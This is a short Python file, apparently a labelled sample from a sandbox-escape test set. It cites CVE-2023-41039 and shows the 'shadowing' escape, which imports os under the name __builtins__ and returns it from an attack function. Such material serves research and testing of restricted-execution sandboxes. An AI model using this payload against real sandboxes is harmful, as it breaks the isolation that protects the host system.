"""Class: shadowing. Source: CVE-2023-41039 family. Escape: `import as` binds a guard's name."""

import os as __builtins__


def attack(model, tokenizer, address):
    return __builtins__
